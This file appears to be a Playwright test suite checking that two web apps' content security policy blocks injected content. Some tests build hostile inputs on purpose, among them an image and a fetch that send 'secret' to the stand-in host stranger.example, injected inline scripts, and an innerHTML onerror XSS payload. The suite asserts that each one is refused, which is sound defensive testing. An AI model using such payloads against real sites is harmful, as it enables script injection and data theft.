import { present } from '@lykta/domain';
import { urls } from '../src/ports.ts';
import { expect, test } from '../src/stack.ts';

for (const app of ['child', 'viewer'] as const) {
  test(`the ${app}'s page refuses what somebody else put into it`, async ({ page, refusedByPolicy }) => {
    await page.goto(urls[app]);
    await page.getByRole('heading', { level: 1 }).waitFor();
    const ran = await page.evaluate(async () => {
      const picture = document.createElement('img');
      picture.src = 'https://stranger.example/?what=secret';
      const script = document.createElement('script');
      script.append('window.strangerWasHere = true');
      document.body.append(picture, script);
      document.body.setAttribute('style', 'display: none');
      await fetch('https://stranger.example/', { method: 'POST', body: 'secret' }).catch(() => undefined);
      return 'strangerWasHere' in window;
    });
    expect(ran).toBe(false);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    // The other journeys use this list to detect the apps' own violations.
    for (const what of [/TrustedScript/, /inline style/, /Loading the image/, /Connecting to/])
      await expect.poll(() => refusedByPolicy.some((message) => what.test(message))).toBe(true);
    refusedByPolicy.length = 0;
  });

  test(`the ${app}'s page runs no script that somebody else wrote into it`, async ({
    page,
    refusedByPolicy,
  }) => {
    await page.route(urls[app], async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace(
        '</body>',
        '<script>strangerWasHere = true</script></body>',
      );
      await route.fulfill({ response, body });
    });
    await page.goto(urls[app]);
    await expect.poll(() => refusedByPolicy.some((message) => /inline script/.test(message))).toBe(true);
    expect(await page.evaluate(() => 'strangerWasHere' in window)).toBe(false);
    refusedByPolicy.length = 0;
  });

  test(`the ${app}'s page makes nothing that runs out of a text`, async ({ page, refusedByPolicy }) => {
    await page.goto(urls[app]);
    await page.getByRole('heading', { level: 1 }).waitFor();
    const refused = await page.evaluate(() => {
      const isRefused = (act: () => unknown) => {
        try {
          act();
          return false;
        } catch {
          return true;
        }
      };
      const div = document.createElement('div');
      return {
        markup: isRefused(() => (div.innerHTML = '<img src=x onerror="strangerWasHere = true">')),
        page: isRefused(() => document.write('<p>somebody else</p>')),
        script: isRefused(() => (document.createElement('script').textContent = 'strangerWasHere = true')),
        address: isRefused(() => (document.createElement('script').src = '/assets/other.js')),
        worker: isRefused(() => new Worker('/favicon.svg')),
        policy: isRefused(() => Reflect.get(window, 'trustedTypes').createPolicy('stranger', {})),
        drawing: isRefused(() => (div.innerHTML = '<svg viewBox="0 0 1 1"><path d="M0 0"/></svg>')),
      };
    });
    expect(refused).toEqual({
      markup: true,
      page: true,
      script: true,
      address: true,
      worker: true,
      policy: true,
      drawing: false,
    });
    expect(await page.evaluate(() => 'strangerWasHere' in window)).toBe(false);
    refusedByPolicy.length = 0;
  });

  // A build that inherits NODE_ENV=development has React for developers, which is slower and has no short errors.
  test(`the ${app}'s React is the one for users`, async ({ page, request }) => {
    await page.goto(urls[app]);
    const loaded = await page.evaluate(() =>
      performance.getEntriesByType('resource').map(({ name }) => name),
    );
    const scripts = await Promise.all(
      loaded.filter((url) => url.endsWith('.js')).map(async (url) => (await request.get(url)).text()),
    );
    expect(scripts.some((script) => script.includes('Minified React error'))).toBe(true);
  });

  test(`nobody puts the ${app}'s page into a frame of theirs`, async ({ request }) => {
    const headers = (await request.get(urls[app])).headers();
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(headers['content-security-policy']).toContain(`connect-src 'self' ${urls.api};`);
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['x-frame-options']).toBe('DENY');
  });

  test(`the ${app}'s host says whom to write to about a hole`, async ({ request }) => {
    const reply = await request.get(`${urls[app]}/.well-known/security.txt`);
    expect(reply.status()).toBe(200);
    const text = await reply.text();
    expect(text).toMatch(/^Contact: mailto:\S+@\S+\nExpires: \S+\nPreferred-Languages: sv, en\n$/);
    expect(
      new Date(present(present(/Expires: (\S+)/.exec(text), 'the match')[1], 'the match')).getTime(),
    ).toBeGreaterThan(Date.now());
  });
}
